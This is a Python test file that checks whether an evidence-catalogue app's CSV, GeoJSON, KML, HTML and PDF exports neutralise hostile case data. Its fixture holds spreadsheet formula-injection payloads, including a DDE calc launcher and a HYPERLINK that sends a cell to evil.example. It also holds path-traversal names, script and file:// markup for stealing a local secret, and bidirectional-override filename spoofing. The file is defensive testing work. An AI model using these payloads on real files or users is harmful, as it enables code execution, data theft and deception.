"""Evidence written by a hostile party, published: the exports and the report must not attack or
mislead the people who open them.

A party who gets an item, a claim or a name into a case controls text that ends up in a
spreadsheet (formulas), an XML or JSON file (characters and numbers those formats cannot hold),
an HTML page and its PDF (markup, links, styles, files named by URL) and in lines a reader takes
at their word (bidirectional overrides, zero-width characters). Each test loads such a case
through the command line into a real catalogue (SQLite and PostgreSQL) and opens what the app
wrote.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import update

from enquiry.cli import main
from enquiry.publish.exports import FORMULA_START
from enquiry.store import open_store
from enquiry.store.tables import Claim, Incident, Item

CASE = "../../evil"
SLUG = "evil-incident"
RLO = "\u202e"
ZWSP = "\u200b"
SECRET = "H7-LOCAL-SECRET-3f9c"
ARABIC = "بشار الأسد"
CALC = "=cmd|' /C calc'!A0"


def _cli(home: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["--home", str(home), "--as", "tester", *args])


def _case(secret: Path) -> dict[str, Any]:
    return {
        "format": "enquiry-case/1",
        "case": {"name": CASE, "title": "Evil <b>case</b> & co"},
        "sources": [
            {"name": CALC, "reliability": "B"},
            {"name": f"Field{ZWSP}team", "reliability": "C"},
        ],
        "actors": [
            {"name": f"Bad{RLO}guy", "type": "state"},
            {"name": ARABIC, "type": "person"},
        ],
        "incidents": [
            {
                "slug": SLUG,
                "place": {"name": "the square", "lat": 10.5, "lon": -20.25},
                "hypotheses": [
                    {"id": "H1", "label": "a shell hit the square"},
                    {"id": "H0", "label": "something else", "other": True},
                ],
            }
        ],
        "items": [
            {
                "key": "note-1",
                "kind": "document",
                "source": CALC,
                "credibility": 3,
                "fields": {
                    "title": 'a;=HYPERLINK("http://evil.example/?"&A1)',
                    "location": "10.5,-20.25",
                },
                "text": "A note.",
            },
            {
                "key": "2 bad:key <x>",
                "kind": "document",
                "source": f"Field{ZWSP}team",
                "credibility": 2,
                "fields": {
                    "title": f"t\x01\x08x {RLO}gnp.exe z{ZWSP}ero",
                    "location": "10.6,-20.3",
                },
                "text": "Another note.",
            },
            {
                "key": "note-3",
                "kind": "document",
                "source": f"Field{ZWSP}team",
                "credibility": 2,
                "fields": {
                    "title": f'<img src="file://{secret}"><a href="javascript:alert(1)">x</a>'
                    f"<script>alert(1)</script><style>*{{background:url(file://{secret})}}</style>",
                    "claimed_place": "10.45,-20.35",
                },
                "text": "A third note.",
            },
        ],
        "claims": [
            {
                "key": "c1",
                "incident": SLUG,
                "actor": f"Bad{RLO}guy",
                "date": "2020-01-01",
                "text": " =1+1",
                "supports": ["H1"],
                "slots": {"place": {"name": "the depot", "lat": 10.55, "lon": -20.2}},
            },
            {
                "key": "c2",
                "incident": SLUG,
                "actor": ARABIC,
                "date": "2020-01-02",
                "text": "\uff1d1+1 and 12, 13",
                "supports": ["H0"],
            },
        ],
        "ratings": [
            {
                "incident": SLUG,
                "item": "note-1",
                "values": {"H1": "C", "H0": "N"},
                "rationale": " @SUM(A1)",
            },
            {
                "incident": SLUG,
                "item": "2 bad:key <x>",
                "values": {"H1": "C", "H0": "I"},
                "rationale": "fine\n@SUM(A1)\tand\t-1",
            },
            {
                "incident": SLUG,
                "item": "note-3",
                "values": {"H1": "N", "H0": "C"},
                "rationale": f"-2+3 see url(file://{secret})",
            },
        ],
    }


@pytest.fixture
def evil(tmp_path: Path, home: Path, backend: str) -> Path:
    """A home holding the hostile case, on the test's back end."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    case = tmp_path / "evil.yaml"
    case.write_text(json.dumps(_case(secret), ensure_ascii=False), encoding="utf-8")
    result = _cli(home, "load", str(case))
    assert result.exit_code == 0, result.output
    return home


def _export(home: Path, fmt: str, out: Path, *extra: str) -> bytes:
    result = _cli(home, "export", fmt, "--case", CASE, "-o", str(out), *extra)
    assert result.exit_code == 0, result.output
    return out.read_bytes()


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ------------------------------------------------------------------------------------------ CSV


def test_no_csv_cell_can_start_a_formula_in_any_list_separator(evil: Path, tmp_path: Path) -> None:
    data = _export(evil, "csv", tmp_path / "evil.zip")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        # the case's name "../../evil" is no path out of the folder the ZIP is unpacked into
        folders = {n.split("/")[0] for n in names}
        assert all(n.count("/") == 1 and "\\" not in n for n in names)
        assert len(folders) == 1 and not folders & {"", ".", ".."}
        tables = {n.split("/")[1]: archive.read(n).decode("utf-8") for n in names}
    for name, text in tables.items():
        # a spreadsheet may split on ",", ";" or a tab (the list separator of its locale): in
        # none of them may a text cell start like a formula
        for delimiter in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(text), delimiter=delimiter):
                for cell in row:
                    if _number(cell):
                        continue
                    assert not cell.lstrip().startswith(FORMULA_START), (name, delimiter, cell)
    items = list(csv.DictReader(io.StringIO(tables["items.csv"])))
    note = next(r for r in items if r["key"] == "note-1")
    # shown as written, after the documented "'"
    assert note["title"] == 'a;\'=HYPERLINK("http://evil.example/?"&A1)'
    assert note["source"] == "'" + CALC
    claims = {r["key"]: r for r in csv.DictReader(io.StringIO(tables["claims.csv"]))}
    assert claims["c1"]["text"] == "'=1+1"  # the loader trims the space
    assert claims["c2"]["text"] == "'\uff1d1+1 and 12, 13"
    ratings = list(csv.DictReader(io.StringIO(tables["ratings.csv"])))
    # the loader trims leading space; a formula after a line end or a tab is guarded where it is
    assert {r["rationale"] for r in ratings} >= {"'@SUM(A1)", "fine\n'@SUM(A1)\tand\t'-1"}
    # numbers stay numbers: unquoted, so a spreadsheet reads them as numbers (negative too)
    line = next(x for x in tables["items.csv"].splitlines() if x.startswith('"note-1"'))
    assert line.endswith(",10.5,-20.25") and re.search(r",\d+,", line)  # size, lat, lon
    custody = tables["custody.csv"].splitlines()[1]
    assert re.match(r"\d+,", custody)  # the ledger's sequence number


# ------------------------------------------------------------------------------ GeoJSON and KML


def _strict_json(data: bytes) -> Any:
    def refuse(name: str) -> None:
        raise ValueError(f"{name} is not JSON")

    return json.loads(data, parse_constant=refuse)


def test_places_off_the_earth_are_left_out_of_maps_and_exports(evil: Path, tmp_path: Path) -> None:
    """A catalogue edited behind the loader (so exported past a failed verification): NaN and
    infinite coordinates, a latitude of 95 and a box upside down are not places."""
    import geojson
    from fastkml.validator import validate
    from lxml import etree

    store = open_store(evil, "tester", create=False)
    with store.engine.begin() as connection:
        connection.execute(update(Incident).values(lat=float("inf"), lon=float("-inf")))
        connection.execute(
            update(Item)
            .where(Item.key == "note-1")
            .values(fields={"title": "off the map", "location": {"lat": 95.0, "lon": 10.0}})
        )
        connection.execute(
            update(Item)
            .where(Item.key == "note-3")
            .values(
                fields={
                    "title": "upside down",
                    "bbox": {"west": -20.4, "south": 10.7, "east": -20.1, "north": 10.4},
                    "claimed_place": {"lat": 10.0, "lon": 200},
                }
            )
        )
        connection.execute(
            update(Claim)
            .where(Claim.key == "c1")
            .values(slots={"place": {"name": "nowhere", "lat": -91, "lon": 1e300}})
        )
    data = _export(evil, "geojson", tmp_path / "evil.geojson", "--allow-unverified")
    collection = _strict_json(data)
    assert geojson.loads(data.decode()).is_valid
    ids = [f["id"] for f in collection["features"]]
    # only the one item whose place was left alone is on the map
    assert ids == ["item/2 bad:key <x>/location"]
    for feature in collection["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert -90 <= lat <= 90 and -180 <= lon <= 180
    kml = _export(evil, "kml", tmp_path / "evil.kml", "--allow-unverified")
    assert validate(element=etree.fromstring(kml)) is True
    assert b"nan" not in kml.lower() and b"inf" not in kml.lower()
    # the engine refuses an incident placed at infinity itself; the items' places are drawn
    with store.engine.begin() as connection:
        connection.execute(update(Incident).values(lat=10.5, lon=-20.25))
    out = tmp_path / "evil.html"
    result = _cli(evil, "report", SLUG, "-o", str(out), "--allow-unverified")
    assert result.exit_code == 0, result.output
    svg = re.search(r"<svg.*?</svg>", out.read_text(encoding="utf-8"), re.S)
    assert svg is not None
    assert not re.search(r'="[^"]*(nan|inf)', svg.group(), re.I)


def test_kml_stays_well_formed_and_schema_valid_whatever_the_names(
    evil: Path, tmp_path: Path
) -> None:
    from fastkml.validator import validate
    from lxml import etree

    data = _export(evil, "kml", tmp_path / "evil.kml")
    root = etree.fromstring(data)  # a control character in a title would make this fail
    assert validate(element=root) is True  # a placemark id from "2 bad:key <x>" is no xsd:ID
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    names = root.xpath("//k:Placemark/k:name/text()", namespaces=ns)
    assert f"t[U+0001][U+0008]x {RLO}gnp.exe z{ZWSP}ero" in names
    keys = root.xpath("//k:Data[@name='item']/k:value/text()", namespaces=ns)
    assert "2 bad:key <x>" in keys  # the key itself is exported as it is
    # the description is HTML to Google Earth: the title's tags show as text there
    description = root.xpath("/k:kml/k:Document/k:description/text()", namespaces=ns)
    assert description == ["Evil &lt;b&gt;case&lt;/b&gt; &amp; co"]


# ------------------------------------------------------------------------------------- report


class _Page(HTMLParser):
    """Every element and attribute of a page, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _report(home: Path, out: Path) -> str:
    result = _cli(home, "report", SLUG, "-o", str(out))
    assert result.exit_code == 0, result.output
    return out.read_text(encoding="utf-8") if out.suffix == ".html" else ""


def test_the_report_shows_hostile_text_as_text_and_names_invisible_characters(
    evil: Path, tmp_path: Path
) -> None:
    page = _report(evil, tmp_path / "evil.html")
    parsed = _Page()
    parsed.feed(page)
    tags = {t for t, _a in parsed.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "link", "a"} - {"a"}
    for tag, attrs in parsed.tags:
        if tag == "a":  # the only links are the report's own citations and contents
            assert (attrs.get("href") or "").startswith("#"), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or "") and "file:" not in (value or ""), attrs
            if name == "style":
                assert "url(" not in (value or "")
    # one <style> element, the report's own
    assert page.count("<style") == 1
    text = "".join(parsed.text)
    assert f"file://{tmp_path}" in text  # the hostile title is printed, as text
    # a page opened from disk may load nothing and run nothing, whatever slipped in
    policy = next(
        a["content"]
        for t, a in parsed.tags
        if t == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy"
    )
    assert policy is not None and "default-src 'none'" in policy and "script-src" not in policy
    # no override or zero-width character reaches the page: each is named where it stands
    assert RLO not in page and ZWSP not in page and "\x01" not in page
    assert "Bad[U+202E]guy" in text
    assert "t[U+0001][U+0008]x [U+202E]gnp.exe z[U+200B]ero" in text
    assert "Field[U+200B]team" in text
    # in the map's labels too
    svg = re.search(r"<svg.*?</svg>", page, re.S)
    assert svg is not None and "Bad[U+202E]guy" in svg.group() and RLO not in svg.group()
    # right-to-left names are isolated: they cannot reorder the line around them
    assert f"\u2068{ARABIC}\u2069" in page
    assert ARABIC not in re.sub("\u2068[^\u2069]*\u2069", "", page)


def test_the_pdf_report_reads_no_file_named_by_evidence(
    evil: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pypdf import PdfReader

    fetched: list[str] = []
    from weasyprint import urls

    real = urls.URLFetcher.fetch

    def spy(self: Any, url: str, *args: Any, **kwargs: Any) -> Any:
        fetched.append(url)
        return real(self, url, *args, **kwargs)

    monkeypatch.setattr(urls.URLFetcher, "fetch", spy)
    out = tmp_path / "evil.pdf"
    _report(evil, out)
    data = out.read_bytes()
    assert data.startswith(b"%PDF-")
    assert not [u for u in fetched if not u.startswith("data:")]
    reader = PdfReader(out)
    assert not reader.attachments  # no file pulled in as an attachment
    text = "".join(page.extract_text() or "" for page in reader.pages)
    assert SECRET not in text and SECRET.encode() not in data
    assert "[U+202E]" in text and RLO not in text
